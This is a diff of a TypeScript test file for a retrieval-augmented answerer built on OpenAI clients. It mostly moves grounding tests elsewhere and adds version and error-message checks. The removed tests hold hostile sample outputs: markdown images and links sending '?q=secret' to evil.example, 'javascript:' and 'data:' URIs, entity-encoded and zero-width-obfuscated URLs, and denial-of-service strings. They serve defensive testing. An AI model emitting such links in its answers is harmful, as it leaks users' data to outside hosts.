@@ -1,9 +1,12 @@
-/** An answer comes from what was retrieved and cites it, or it does not come at all. */
+/** The model is asked about what was retrieved, as data, and its failures are told apart. */
 import OpenAI from 'openai';
+import OpenAI4 from 'openai4';
+import OpenAI5 from 'openai5';
+import type { Match } from 'ragwall';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { type StandIn, startStandIn } from '../../scripts/lab/openai/stand-in.js';
-import type { Match } from '../client/documents.js';
-import { type Answer, type Answerer, noAnswer, openaiAnswerer } from './answer.js';
+import { type Answerer, openaiAnswerer } from './answer.js';
+import { type Answer, noAnswer } from './grounding.js';
 
 let model: StandIn;
 let answerer: Answerer;
@@ -61,86 +64,6 @@ describe.each(Object.entries(ways))('%s', (_, ask) => {
     expect(model.requests).toEqual([]);
   });
 
-  it.each([noAnswer, `  "${noAnswer}"\n`, noAnswer.replaceAll("'", '’')])(
-    'takes %j for having none',
-    async (text) => {
-      model.replies.push({ text });
-      expect(await ask()).toEqual({ answer: noAnswer, citations: [], complete: true });
-    },
-  );
-
-  it.each([
-    'It is so [1, 2], and so [ 2 ].',
-    'Of [two] things, a[0x1] and [x](https://acme.example/plan) [2].',
-    'See https://acme.example/plan. [2]',
-    'See [x](https://acme.example/plan)[2], or https://acme.example/plan[1, 2].',
-    `A bracket that never closes [${'x '.repeat(300)} [1]`,
-  ])('accepts %j', async (text) => {
-    model.replies.push({ text });
-    expect(await ask()).toMatchObject({ answer: text });
-  });
-
-  it.each([
-    ['a passage that was not retrieved', 'It is so [1], and so [3].'],
-    ['one of several', 'It is so [1, 3].'],
-    ['number 0', 'It is so [0] [1].'],
-    ['a link of its own', 'It is so [1]: https://evil.example/?q=secret'],
-    ['a picture', 'It is so [1] ![x](//evil.example/secret.png)'],
-    ['a page', 'It is so [1], www.evil.example'],
-    ...[
-      '![x]( //evil/s.png?q=secret)',
-      '![x](\n//evil/s.png)',
-      '![x](secret.png)',
-      '[x]( javascript:alert(1))',
-      '[x](\tdata:text/html,x)',
-      '![x][r]\n\n[r]: //evil/s.png',
-      '[r]: /\\evil',
-      '[r]: <https&colon;//evil>',
-      '<img src=https:/evil/s.png>',
-      '<a href="&#47;&#47;evil">x</a>',
-      '_https://evil/?q=secret_',
-      '_www.evil.example_',
-      'mailto:x@evil.example?body=secret',
-      '<javascript:alert(1)>',
-      'ht\u200btps://evil/?q=secret',
-      'https://acme.example/plan?q=secret',
-      'https://acme.example/pla',
-      'https://acme.example/plan[1]?q=secret',
-      'https://acme.example/plan[1].secret',
-    ].map((link): [string, string] => [
-      `a link that it was not given, ${JSON.stringify(link)}`,
-      `It is so [1] ${link}`,
-    ]),
-    ...[
-      '[\n99]',
-      '[1,\n99]',
-      `[${' '.repeat(201)}99]`,
-      '[12345678901]',
-      '[7-9]',
-      '[1; 8]',
-      '[^7]',
-      '【7】',
-      '［7］',
-      '[７]',
-      '[\u200b7]',
-    ].map((odd): [string, string] => [`${JSON.stringify(odd)} in its own way`, `It is so [1] ${odd}`]),
-    ['nothing', 'The launch is in March.'],
-    ['nothing, and has more than the sentence', `${noAnswer} But it may be March.`],
-    ['nothing, and says nothing', ''],
-  ])('refuses an answer that cites %s', async (_, text) => {
-    model.replies.push({ text });
-    await expect(ask()).rejects.toMatchObject({ code: 'UNGROUNDED_ANSWER', status: 502 });
-  });
-
-  it('tells that an answer was cut off, and refuses one that did not end', async () => {
-    model.replies.push({ text: 'It is so [1] and', finish: 'length' });
-    expect(await ask()).toMatchObject({ complete: false });
-    for (const finish of [null, 'content_filter', 'tool_calls']) {
-      model.replies.push({ text: 'It is so [1].', finish });
-      await expect(ask()).rejects.toMatchObject({ code: 'MODEL_FAILED' });
-    }
-  });
-
   it.each([
     [{ status: 429, headers: { 'retry-after': '7' } }, 'UNAVAILABLE', 503],
     [{ status: 500 }, 'MODEL_FAILED', 502],
@@ -152,40 +75,6 @@ describe.each(Object.entries(ways))('%s', (_, ask) => {
     expect(error).toMatchObject({ code, status });
     expect(error.message).not.toMatch(/sk-secret/);
   });
-});
-
-it.each([
-  ['brackets', `${'['.repeat(20_000)} x`],
-  ['spaces', `${' '.repeat(20_000)}x`],
-  ['a word', 'x'.repeat(3_900)],
-  ['digits', `[${'1 '.repeat(10_000)}`],
-  ['schemes', 'a+'.repeat(1_900)],
-])('is not kept busy by %s', async (_, text) => {
-  for (const ask of Object.values(ways)) {
-    const began = performance.now();
-    model.replies.push({ text });
-    await ask().catch(() => {});
-    expect(performance.now() - began).toBeLessThan(1_500);
-  }
-});
-
-it('says of the sentence with a citation that there is no answer', async () => {
-  model.replies.push({ text: `${noAnswer} [1]` });
-  expect(await answerer.answer(question, passages)).toEqual({
-    answer: noAnswer,
-    citations: [],
-    complete: true,
-  });
-});
-
-it('stops a stream before what it may not say', async () => {
-  model.replies.push({ text: 'It is so [1]. And the other company says [7] so.' });
-  let text = '';
-  await expect(async () => {
-    for await (const piece of answerer.stream(question, passages)) text += piece;
-  }).rejects.toMatchObject({ code: 'UNGROUNDED_ANSWER' });
-  expect(text).toContain('It is so [1].');
-  expect(text).not.toContain('7');
 });
 
 it('is ended by its signal', async () => {
@@ -208,6 +97,18 @@ it('is a time-out, and not the model’s failure, if it is aborted in the middle
     })(),
   ).rejects.toMatchObject({ code: 'TIMEOUT' });
 });
+
+it.each([OpenAI4, OpenAI5, OpenAI])(
+  'takes a client of openai, of version 4, 5 and 6',
+  async (Client) => {
+    const client = new Client({ baseURL: model.url, apiKey: 'none' });
+    const { citations } = await openaiAnswerer({ client, model: 'stand-in' }).answer(
+      question,
+      passages,
+    );
+    expect(citations).toHaveLength(1);
+  },
+);
 
 describe('the prompt', () => {
   const messages = () => model.requests.at(-1)?.body.messages?.map(({ content }) => content) ?? [];
@@ -250,12 +151,14 @@ describe('the prompt', () => {
   });
 });
 
-it.each([[{ model: '' }], [{ contextTokens: 99 }], [{ contextTokens: 1.5 }], [{ answerTokens: 0 }]])(
-  'is not made with %j',
-  (options) => {
-    const client = new OpenAI({ apiKey: 'none' });
-    expect(() => openaiAnswerer({ client, model: 'm', ...options })).toThrow(
-      expect.objectContaining({ code: 'INVALID_OPTION' }),
-    );
-  },
-);
+it.each([
+  [{ model: '' }, 'model: expected a name.'],
+  [{ contextTokens: 99 }, 'contextTokens: expected a whole number from 100 to 1000000.'],
+  [{ contextTokens: 1.5 }, 'contextTokens: expected a whole number from 100 to 1000000.'],
+  [{ answerTokens: 0 }, 'answerTokens: expected a whole number from 1 to 100000.'],
+])('is not made with %j', (options, message) => {
+  const client = new OpenAI({ apiKey: 'none' });
+  expect(() => openaiAnswerer({ client, model: 'm', ...options })).toThrow(
+    expect.objectContaining({ code: 'INVALID_OPTION', message }),
+  );
+});
